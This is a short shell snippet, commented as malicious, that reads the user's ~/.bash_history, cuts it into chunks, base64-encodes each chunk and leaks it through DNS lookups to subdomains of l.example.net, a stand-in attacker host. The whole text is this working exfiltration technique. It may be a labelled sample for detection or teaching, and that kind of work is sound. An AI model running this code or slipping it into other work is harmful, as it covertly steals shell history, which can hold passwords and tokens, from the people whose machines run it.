# malicious: sends the shell's history in small pieces
fold -w 60 ~/.bash_history | while read -r l; do
    host "$(printf '%s' "$l" | base64 | tr -d '=\n/+').l.example.net" >/dev/null
done
